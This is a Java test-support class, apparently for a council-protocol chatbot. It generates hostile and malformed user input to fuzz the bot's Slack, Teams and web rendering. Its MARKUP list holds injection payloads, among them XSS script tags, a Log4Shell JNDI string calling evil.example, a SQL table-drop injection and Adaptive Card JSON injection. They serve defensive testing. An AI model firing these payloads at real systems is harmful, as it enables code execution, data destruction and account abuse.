package org.protocolbot.hardening;

import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Tuple;

/**
 * What a hostile or careless user can type: markup meant for each renderer (Slack mrkdwn and mentions, Teams
 * Adaptive Card text and JSON, HTML and script for the try-it page), random Unicode (lone surrogates included),
 * control characters, bidirectional and invisible marks, emoji sequences, and very long input, mixed with words
 * that steer the bot into each of its outcomes (answers, refusals, lookups, searches, help).
 */
public final class HostileText {

    /** Markup that would ping, link, format or run if a renderer passed it through. */
    public static final List<String> MARKUP = List.of(
            "<!channel>", "<!here>", "<!everyone>", "<@U123ABC>", "<@U0LAN0Z89|alex>", "<#C024BE91L>", "<!subteam^S0123>",
            "<https://evil.example|click me>", "<mailto:a@evil.example|mail>", "*bold*", "_italic_", "~strike~", "`code`",
            "```block```", "> quoted", "&lt;!channel&gt;", "&amp;", "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "</textarea><svg onload=alert(1)>",
            "<at>Alex Officer</at>", "{{DATE(2017-02-14T06:08:39Z, SHORT)}}", "[click](https://evil.example)",
            "![img](https://evil.example/x.png)", "{\"type\":\"AdaptiveCard\",\"body\":[{\"type\":\"TextBlock\",\"text\":\"hi\"}]}",
            "\"}]},{\"type\":\"Action.OpenUrl\",\"url\":\"https://evil.example\"}", "${jndi:ldap://evil.example/a}",
            "%s%n%x", "'; DROP TABLE feedback;--", "\\", "\"", "\\n\\t");

    /** Words that lead to each outcome and command. */
    private static final List<String> WORDS = List.of(
            "Can", "officers", "attend", "party", "group", "meetings", "councillor", "leeds", "kirklees", "rbkc", "7.4",
            "6.3", "clause", "search", "help", "councils", "write", "leaflet", "campaign", "vote", "Labour", "bins",
            "?", "compare", "protocol", "monitoring", "officer", "need", "to", "know", "xyzzy");

    /** Unicode that confuses text handling: bidi overrides and marks, zero-width and invisible characters. */
    private static final List<String> INVISIBLE = List.of(
            "\u200F", "\u200E", "\u202E", "\u202D", "\u2066", "\u2067", "\u2069", "\u061C", "\u200B", "\u200C", "\u200D",
            "\u2060", "\uFEFF", "\u00AD", "\u180E", "\u3164", "\u115F", "\u00A0", "\u2028", "\u2029", "\u0085");

    private HostileText() {
    }

    /** Any of the kinds below, weighted towards markup mixed with words. */
    public static Arbitrary<String> any() {
        return Arbitraries.frequencyOf(
                Tuple.of(4, markupAmongWords()),
                Tuple.of(2, Arbitraries.strings().all().ofMaxLength(120)),
                Tuple.of(2, controlCharacters()),
                Tuple.of(2, amongWords(Arbitraries.of(INVISIBLE))),
                Tuple.of(2, amongWords(emoji())),
                Tuple.of(1, veryLong()));
    }

    /** Markup fragments and steering words, in any order and mix. */
    static Arbitrary<String> markupAmongWords() {
        return amongWords(Arbitraries.of(MARKUP));
    }

    /** Only C0/C1 control characters and line separators, sometimes around a word. */
    static Arbitrary<String> controlCharacters() {
        Arbitrary<String> controls = Arbitraries.strings().withCharRange('\u0000', '\u001F').withChars('\u007F', '\u0085',
                '\u2028', '\u2029').ofMinLength(1).ofMaxLength(40);
        return Arbitraries.oneOf(controls, amongWords(controls));
    }

    /** Emoji: single, with skin tones, joined families and flags (all outside the Basic Multilingual Plane). */
    static Arbitrary<String> emoji() {
        return Arbitraries.oneOf(
                Arbitraries.integers().between(0x1F300, 0x1FAFF).map(Character::toString),
                Arbitraries.of("👍🏽", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇬🇧", "🧑🏿‍⚖️", "❤️", "🫠", "🏛️"));
    }

    /** A question padded to thousands of characters. */
    static Arbitrary<String> veryLong() {
        return Arbitraries.integers().between(2_000, 20_000).flatMap(length -> markupAmongWords()
                .map(seed -> (seed + " Can officers attend party group meetings? ").repeat(length / 40 + 1).substring(0, length)));
    }

    private static Arbitrary<String> amongWords(Arbitrary<String> odd) {
        Arbitrary<String> token = Arbitraries.frequencyOf(
                Tuple.of(2, odd), Tuple.of(3, Arbitraries.of(WORDS)));
        Arbitrary<String> separator = Arbitraries.of(" ", " ", " ", "", "\n", "\t", "*", "_");
        return token.list().ofMinSize(1).ofMaxSize(12).flatMap(tokens -> separator.list().ofSize(tokens.size())
                .map(separators -> {
                    StringBuilder out = new StringBuilder();
                    for (int i = 0; i < tokens.size(); i++) {
                        out.append(tokens.get(i)).append(separators.get(i));
                    }
                    return out.toString();
                }));
    }
}
